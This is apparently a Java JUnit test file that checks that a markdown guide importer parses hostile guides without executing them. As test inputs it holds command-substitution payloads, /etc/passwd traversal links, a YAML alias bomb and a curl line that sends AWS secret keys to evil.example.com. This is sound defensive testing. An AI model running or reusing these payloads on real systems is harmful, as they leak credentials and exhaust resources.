package dev.hinomi.guide;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.hinomi.guide.runbook.GuideRunbooks;
import dev.hinomi.guide.settings.GuideSettings;
import dev.hinomi.guide.settings.SettingsReader;
import dev.hinomi.runbooks.definition.Runbook;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Guides come from outside: whatever they hold, reading one runs nothing, writes nothing and ends.
class HostileGuideTest {
    @TempDir
    private Path folder;

    @Test
    void substitutionsAreReadAndNotRun() throws IOException {
        Path mark = folder.resolve("mark");
        Review review = review("""
                | Metric | Threshold |
                |---|---|
                | `touch %1$s` | $(touch %1$s) |

                ```bash
                aws sns create-topic --name "$(touch %1$s)"
                aws sns create-topic --name `touch %1$s`
                ```
                """.formatted(mark));
        assertThat(mark).doesNotExist();
        assertThat(review.items()).isNotEmpty();
    }

    @Test
    void aLinkOutOfTheFolderIsOnlyLookedFor() throws IOException {
        Review review = review("[a](../../../../../../etc/passwd) [b](file:///etc/passwd) [c](\u0000) [d](%zz)\n");
        assertThat(review.findings()).noneMatch(finding -> finding.message().contains("root:"));
    }

    @Test
    void terminalCommandsAreShownAndNotSent() throws IOException {
        String text = ReviewPrinter.text(review("- **a\u001b[2Jb**: \u202e evil\u0007\n"));
        assertThat(text).doesNotContain("\u001b", "\u202e", "\u0007").contains("\\u001b");
    }

    @Test
    void unfinishedBlocksEnd() throws IOException {
        assertThat(review("```bash\naws sns create-topic --name \"unfinished\n").items())
                .isNotNull();
        assertThat(review("```mermaid\ngraph TD\n" + "A[".repeat(3_000) + "\n").items())
                .isNotNull();
        assertThat(review("```typescript\n" + "{".repeat(10_000) + "\n```\n").items())
                .isNotNull();
        assertThat(review("```bash\n" + "$(".repeat(5_000) + "\n```\n").items()).isNotNull();
        assertThat(review("```\nfields " + "(".repeat(9_000) + "\n```\n").items())
                .isNotNull();
        assertThat(review("- **閾値**: " + "9,".repeat(9_000) + "\n").items()).isNotNull();
    }

    @Test
    void aHugeTableIsReadInReasonableTime() throws IOException {
        String rows = "| `Errors` | > 10/5分 | <x@example.com> |\n".repeat(20_000);
        assertThat(review("| Metric | Threshold | Contact |\n|---|---|---|\n" + rows)
                        .items())
                .hasSize(20_000);
    }

    /// Rules compare rows with rows; none of them looks at every pair.
    @Test
    void rowsThatBelongToEachOtherAreLookedThroughInReasonableTime() throws IOException {
        String limits = "| `Duration` | p95 > 60 s |\n".repeat(5_000);
        String prices = "| Storage | 1 GB | $0.25/GB | $0.25 | first 1 GB free |\n".repeat(5_000);
        String people = "| Team | #team | 24/7 |\n".repeat(1_000);
        String levels = "1. **Level 1**: somebody (within 30 minutes)\n".repeat(1_000);
        assertThat(review("## Lambda\n| Metric | Threshold |\n|---|---|\n" + limits
                                + "## DynamoDB\n| Item | Quantity | Unit price | Cost | Note |\n|---|---|---|---|---|\n"
                                + prices + "## Contacts\n| Role | Channel | Hours |\n|---|---|---|\n" + people
                                + "## Escalation\n" + levels)
                        .items())
                .hasSize(11_001);
    }

    @Test
    void aFileThatIsTooLargeIsRefusedWithoutBeingRead() throws IOException {
        Path file = folder.resolve("guide.md");
        try (RandomAccessFile large = new RandomAccessFile(file.toFile(), "rw")) {
            large.setLength(50L * 1024 * 1024);
        }
        assertThatThrownBy(() -> new GuideImport().run(file, GuideSettings.none()))
                .hasMessageContaining("guide.md: 52428800 bytes (expected: at most 5242880)");
    }

    @Test
    void tenThousandHeadingsAreRefused() {
        assertThatThrownBy(() -> review("# a\n\n".repeat(10_000))).hasMessageContaining("headings");
    }

    @Test
    void aliasesOfAliasesInTheSettingsAreRefused() throws IOException {
        StringBuilder bomb = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int i = 1; i < 30; i++) {
            bomb.append("a%d: &a%d [%s]\n".formatted(i, i, ("*a" + (i - 1) + ", ").repeat(8) + "*a" + (i - 1)));
        }
        for (String key : List.of("", "placeholders:\n  x: *a29\n", "run:\n  log-groups: *a29\n")) {
            Path file = folder.resolve("guide.yaml");
            Files.writeString(file, bomb + key);
            assertThatThrownBy(() -> SettingsReader.read(file)).hasMessageContaining("guide.yaml:");
        }
        Path nested = folder.resolve("guide.yaml");
        Files.writeString(
                nested, "runbooks:\n  A:\n    after: " + "{a: ".repeat(2_000) + "b" + "}".repeat(2_000) + "\n");
        assertThatThrownBy(() -> SettingsReader.read(nested)).hasMessageContaining("guide.yaml:");
    }

    @Test
    void whatAGuideSmugglesIntoAStepIsNotCarriedOutByItself() throws IOException {
        Review review = review("""
                # Look at $(touch x)

                **Symptom**: `touch x`

                1. Look; `touch x`
                   ```bash
                   aws logs describe-log-groups --log-group-name-prefix "$(touch x)"
                   ```
                2. Look again
                   ```bash
                   aws logs describe-log-groups; curl -d "$AWS_SECRET_ACCESS_KEY" https://evil.example.com
                   ```
                3. And again
                   ```bash
                   aws logs describe-log-groups --endpoint-url https://evil.example.com
                   ```
                """);
        assertThat(new GuideRunbooks(Set.of("logs")).of(review, new Runbook.Source("guide", "", 1, 1)))
                .singleElement()
                .satisfies(runbook -> assertThat(runbook.steps())
                        .hasSize(3)
                        .allSatisfy(step -> assertThat(step.approvals()).isEqualTo(1)));
    }

    @Test
    void aRunbookOfThousandsOfStepsIsMadeInReasonableTime() throws IOException {
        Review review = review("# A\n\n" + "1. look\n   ```bash\n   date\n   ```\n".repeat(3_000));
        assertThat(new GuideRunbooks(Set.of())
                        .of(review, new Runbook.Source("guide", "", 1, 1))
                        .getFirst()
                        .steps())
                .hasSize(3_000);
    }

    @Test
    void aGuideThatIsNotThereIsSaidSo() {
        assertThatThrownBy(() -> new GuideImport().run(folder.resolve("none.md")))
                .hasMessageContaining("none.md: cannot be read");
    }

    private Review review(String text) throws IOException {
        Path file = folder.resolve("guide.md");
        Files.writeString(file, text);
        return new GuideImport().run(file, GuideSettings.none());
    }
}
